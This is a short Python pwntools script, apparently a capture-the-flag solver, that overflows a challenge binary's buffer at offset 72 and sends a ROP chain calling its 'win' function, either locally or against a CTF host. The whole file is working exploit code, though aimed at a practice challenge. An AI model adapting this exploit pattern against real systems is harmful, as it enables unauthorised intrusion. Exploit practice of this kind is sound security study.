#!/usr/bin/env python3
from pwn import *

HOST, PORT = "chall.ctf.example", 31337   # from the challenge description
exe = context.binary = ELF("./chall", checksec=False)
context.log_level = "info"

def start():
    return process(exe.path) if args.LOCAL else remote(HOST, PORT)

io = start()
offset = 72
rop = ROP(exe)
rop.call("win")
payload = flat({offset: rop.chain()})
io.sendlineafter(b"> ", payload)
io.interactive()
